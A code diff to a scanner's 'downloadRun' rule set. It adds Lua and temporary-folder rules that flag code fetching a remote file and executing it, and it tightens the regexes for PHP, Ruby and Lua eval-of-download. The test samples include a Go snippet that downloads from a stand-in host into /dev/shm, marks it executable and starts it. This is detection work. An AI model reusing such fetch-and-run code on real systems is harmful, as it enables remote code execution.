@@ -189,6 +189,10 @@ export const downloadRun: RuleSet = {
           is(['requests.get', 'urlopen(', 'httpx.get'], null, { families: ['py'] }),
           flowsInto(String.raw`(?<![\w.])(?:exec|eval)\(|os\.system\(|os\.popen\(`),
         ),
+        where(
+          is(['http.request(', 'httpget(', 'http.get('], null, { families: ['lua'] }),
+          flowsInto(String.raw`loadstring\(|(?<![\w.:])load\(`),
+        ),
         near(
           10,
           is(
@@ -240,17 +244,17 @@ export const downloadRun: RuleSet = {
       when: any(
         is(
           ['eval', 'include', 'require', 'assert'],
-          /(?<![\w>$])(?:(?:eval|assert)\s*\(\s*(?:["']\?>["']\s*\.\s*)?(?:file_get_contents|curl_exec)\s*\(|(?:include|require)(?:_once)?\s*\(?\s*["']https?:\/\/)/,
+          /(?<![\w>$])(?:(?:eval|assert)\s{0,6}\(\s{0,6}(?:["']\?>["']\s{0,6}\.\s{0,6})?(?:file_get_contents|curl_exec)\s{0,6}\(|(?:include|require)(?:_once)?\s{0,6}\(?\s{0,6}["']https?:\/\/)/,
           { families: ['php', 'html'] },
         ),
         is(
           ['eval'],
-          /(?<![\w.])(?:instance_)?eval[\s(]+(?:URI\.open|open\(\s*["']https?:|Net::HTTP\.get|HTTParty\.get|URI\(["'][^"'\n]{4,100}["']\)\.(?:open|read))/,
+          /(?<![\w.])(?:instance_)?eval[\s(]+(?:URI\.open|open\(\s{0,6}["']https?:|Net::HTTP\.get|HTTParty\.get|URI\(["'][^"'\n]{4,100}["']\)\.(?:open|read))/,
           { families: ['rb'] },
         ),
         is(
           ['loadstring(', 'load('],
-          /(?<![\w.:])load(?:string)?\(\s*(?:game:HttpGet|http\.request|http\.get|game\.HttpGet)/i,
+          /(?<![\w.:])load(?:string)?\(\s{0,6}(?:game:HttpGet|http\.request|http\.get|game\.HttpGet)/i,
           { families: ['lua'] },
         ),
       ),
@@ -413,6 +417,41 @@ export const downloadRun: RuleSet = {
         go('os.Chmod(target, 0755)\nexec.Command(target, "version").Run()'),
         js('fs.chmodSync(bin, 0o755)\nawait download(url, bin)'),
       ],
+    },
+    {
+      id: id('temporary-program'),
+      severity: 'high',
+      why: 'Fetches something, writes it into a temporary folder and starts it from there.',
+      when: near(
+        15,
+        is(
+          [
+            'command::new(',
+            'exec.command(',
+            'subprocess.',
+            'os.system(',
+            'spawn(',
+            'exec(',
+            'execsync(',
+            'popen(',
+            'execfile(',
+          ],
+          /(?:Command::new|exec\.Command|subprocess\.\w{3,14}|os\.system|spawn|exec(?:Sync|File)?|[Pp]open)\(\s{0,4}\[?\s{0,4}["'`](?:nohup |sh |bash |\.\/)?(?:\/tmp|\/dev\/shm|\/var\/tmp)\/[\w./-]{1,60}["'`\s]/,
+          { families: ['py', 'js', 'go', 'rust', 'rb', 'php', 'java'] },
+        ),
+        'download',
+        any(
+          'write',
+          is(['chmod', 'io.copy', 'urlretrieve', 'outfile', '-o /tmp', 'set_permissions', 'createwritestream'], null),
+        ),
+        is(['http://', 'https://'], null),
+      ),
+      matches: [
+        go(
+          'r, _ := http.Get("http://x.example.invalid/a")\nf, _ := os.OpenFile("/dev/shm/.a", os.O_CREATE|os.O_WRONLY, 0755)\nio.Copy(f, r.Body)\nexec.Command("/dev/shm/.a").Start()',
+        ),
+      ],
+      misses: [py("urllib.request.urlretrieve('https://example.org/a', target)\nsubprocess.run([target])")],
     },
     {
       id: id('paste-run'),
